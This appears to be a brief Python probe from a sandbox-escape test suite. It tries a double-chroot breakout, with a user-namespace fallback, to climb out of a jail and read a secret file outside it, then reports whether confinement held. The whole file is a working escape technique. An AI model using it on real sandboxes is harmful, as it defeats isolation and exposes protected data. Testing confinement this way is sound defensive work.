# Climbs out by a second chroot, as root of a new user namespace if need be.
from escape import *
out = os.open(".", os.O_RDONLY)
os.mkdir("jail")
try:
    os.chroot("jail")
except PermissionError:
    if libc.unshare(0x10000000):
        held("neither chroot nor a user namespace")
    os.chroot("jail")
os.fchdir(out)
for _ in range(40):
    os.chdir("..")
os.chroot(".")
token_in(open(E["OUTSIDE_SECRET"]).read(), "a broken chroot")
